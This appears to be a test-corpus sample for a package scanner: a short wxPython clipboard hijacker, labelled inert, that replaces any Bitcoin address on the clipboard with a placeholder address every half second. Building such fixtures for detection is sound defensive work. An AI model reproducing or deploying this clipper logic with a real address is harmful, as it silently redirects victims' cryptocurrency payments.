# pkgguard corpus 518 (clipboard), modelled on [stealer-profile]; inert, never run.
import re

import wx

BTC = re.compile(r"^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
OURS = "bc1qplaceholderplaceholderplaceholder0000"


class _Watch(wx.Timer):
    def Notify(self):
        if not wx.TheClipboard.Open():
            return
        data = wx.TextDataObject()
        if wx.TheClipboard.GetData(data) and BTC.match(data.GetText().strip()):
            wx.TheClipboard.SetData(wx.TextDataObject(OURS))
        wx.TheClipboard.Close()


app = wx.App(False)
_w = _Watch()
_w.Start(500)
app.MainLoop()
